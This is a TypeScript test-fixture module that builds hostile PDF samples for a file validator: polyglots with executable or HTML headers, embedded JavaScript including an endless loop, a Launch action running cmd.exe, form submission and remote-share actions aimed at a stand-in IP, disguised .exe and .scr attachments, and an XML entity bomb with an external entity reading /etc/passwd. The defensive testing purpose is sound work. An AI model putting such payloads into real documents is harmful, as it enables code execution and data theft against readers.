import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import type { HostileFile } from './files.ts'
import { buildPdf, greeting, helvetica, onePage, onePager, type PdfObject } from './pdf-builder.ts'

const text: PdfObject = { body: greeting }
const sheet = (more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << ${helvetica} >> ${more} >>`
const plain = () => onePager(text)

const withCatalogue = (entries: string, more: PdfObject[] = [], page = '') =>
  buildPdf([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`, onePage, sheet(page), text, ...more])

const script = '<< /S /JavaScript /JS (app.alert\\("hello"\\); while \\(true\\) {}) >>'

const withAttachment = (name: string) =>
  withCatalogue('/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', [
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >> >>`,
    { head: '/Type /EmbeddedFile', body: 'MZ\x90\x00 a program' },
  ])

function inObjectStream(): Buffer {
  const body = `9 0 ${script}`
  const hidden = { head: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', body: deflateSync(body) }
  return withCatalogue('/OpenAction 9 0 R', [hidden])
}

/** Encrypts a PDF with qpdf. */
function encrypt(...options: string[]): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'payproof-hostile-'))
  try {
    const [before, after] = [join(folder, 'before.pdf'), join(folder, 'after.pdf')]
    writeFileSync(before, plain())
    execFileSync('qpdf', [...options, before, after])
    return readFileSync(after)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

const foreignHeaders: Record<string, string> = {
  'a ZIP file': 'PK\x03\x04\x14\x00\x00\x00',
  'a program for Windows': 'MZ\x90\x00\x03\x00',
  'a program for Linux': '\x7FELF\x02\x01\x01\x00',
  'a shell script': '#!/bin/sh\nexit 0\n',
  'a web page': '<!doctype html><script>alert(1)</script><!--',
  'a drawing': '<svg xmlns="http://www.w3.org/2000/svg"><!--',
  'a GIF': 'GIF89a\x01\x00\x01\x00',
  'a JPEG': '\xFF\xD8\xFF\xE0\x00\x10JFIF',
  'a PNG': '\x89PNG\r\n\x1A\n',
}

const actions: Record<string, string> = {
  'starts a program': '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  'sends its fields away': '<< /S /SubmitForm /F (http://198.51.100.7/) >>',
  'opens another file': '<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>',
  'opens an address': '<< /S /URI /URI (http://198.51.100.7/) >>',
  'follows itself': '<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>',
}

/** Polyglot files, files with active content, and encrypted files. */
export const disguises: HostileFile[] = [
  ...Object.entries(foreignHeaders).map(([name, start]) => ({
    name: `polyglot: also ${name}`,
    make: () => Buffer.concat([Buffer.from(start, 'latin1'), plain()]),
    rejections: ['unsafe', 'not-a-pdf'] as const,
  })),
  {
    name: 'polyglot: ends with a ZIP directory',
    make: () => Buffer.concat([plain(), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
    rejections: ['unsafe'],
  },
  {
    name: 'polyglot: a web page that contains a PDF header',
    make: () => Buffer.from('<html>%PDF-1.7 %%EOF</html>'),
    rejections: ['unsafe', 'not-a-pdf'],
  },
  { name: 'no PDF: empty', make: () => Buffer.alloc(0), rejections: ['not-a-pdf', 'empty', 'broken'] },
  {
    name: 'no PDF: only a header',
    make: () => Buffer.from('%PDF-1.7\n'),
    rejections: ['broken', 'not-a-pdf'],
  },
  {
    name: 'no PDF: a header and an end',
    make: () => Buffer.from('%PDF-1.7\n%%EOF\n'),
    rejections: ['broken', 'not-a-pdf'],
  },
  { name: 'no PDF: 10 MB of zeros', make: () => Buffer.alloc(10_000_000), rejections: ['not-a-pdf'] },
  { name: 'no PDF: 10 MB of headers', make: () => Buffer.alloc(10_000_000, '%PDF-1.7\n') },
  {
    name: 'no PDF: 10 MB of file ends',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_900_000, 'startxref 0 %%EOF ')]),
  },
  {
    name: 'no PDF: 10 MB of unfinished objects',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_900_000, '1 0 obj ')]),
  },
  {
    name: 'no PDF: 10 MB of unfinished streams',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_900_000, '1 0 obj<<>>stream\n')]),
  },
  {
    name: 'too large: more than 10 MB',
    make: () => Buffer.concat([plain(), Buffer.alloc(10_000_000, ' ')]),
    rejections: ['too-large'],
  },
  { name: 'runs: a script when it opens', make: () => withCatalogue(`/OpenAction ${script}`) },
  {
    name: 'runs: a script by name',
    make: () => withCatalogue(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  },
  { name: 'runs: a script in an object stream', make: inObjectStream },
  {
    name: 'runs: a script when its page is opened or closed',
    make: () => withCatalogue('', [], `/AA << /O ${script} /C ${script} >>`),
  },
  ...Object.entries(actions).map(([name, action]) => ({
    name: `runs: ${name}`,
    make: () => withCatalogue('/OpenAction 5 0 R', [action]),
    ...(name === 'starts a program' && { rejections: ['unsafe'] as const }),
  })),
  { name: 'runs: an attached program', make: () => withAttachment('invoice.exe'), rejections: ['unsafe'] },
  {
    name: 'runs: an attached program with a double extension',
    make: () => withAttachment('invoice.pdf.scr'),
    rejections: ['unsafe'],
  },
  { name: 'runs: an attached CSV file', make: () => withAttachment('figures.csv') },
  {
    name: 'runs: an XFA form with a script',
    make: () =>
      withCatalogue('/AcroForm << /XFA 5 0 R /Fields [] >>', [
        { body: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>' },
      ]),
  },
  {
    name: 'runs: XML entity expansion',
    make: () =>
      withCatalogue('/Metadata 5 0 R', [
        {
          head: '/Type /Metadata /Subtype /XML',
          body: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "${'x'.repeat(50)}">${Array.from({ length: 20 }, (_, n) => `<!ENTITY c${n} "${'&b;'.repeat(20)}">`).join('')}<!ENTITY f SYSTEM "file:///etc/passwd">]><x:xmpmeta>&c1;&f;</x:xmpmeta>`,
        },
      ]),
  },
  ...['40', '128', '256'].map((bits) => ({
    name: `locked: by a password of ${bits} bits`,
    make: () => encrypt('--allow-weak-crypto', '--encrypt', 'secret', 'owner', bits, '--'),
    rejections: ['password'] as const,
  })),
  {
    name: 'locked: owner password only',
    make: () => encrypt('--encrypt', '', 'owner', '256', '--print=none', '--'),
  },
  {
    name: 'locked: unknown encryption',
    make: () =>
      buildPdf([`<< /Type /Catalog /Pages 2 0 R >>`, onePage, sheet(), text], {
        trailer: '/Encrypt << /Filter /Unknown /V 99 /R 99 /O (x) /U (y) /P 0 >> /ID [(a) (b)]',
      }),
  },
  {
    name: 'locked: invalid encryption dictionary',
    make: () =>
      buildPdf([`<< /Type /Catalog /Pages 2 0 R >>`, onePage, sheet(), text], {
        trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /O () /U () /P 0 /Length 99999 >> /ID [(a) (b)]',
      }),
  },
]
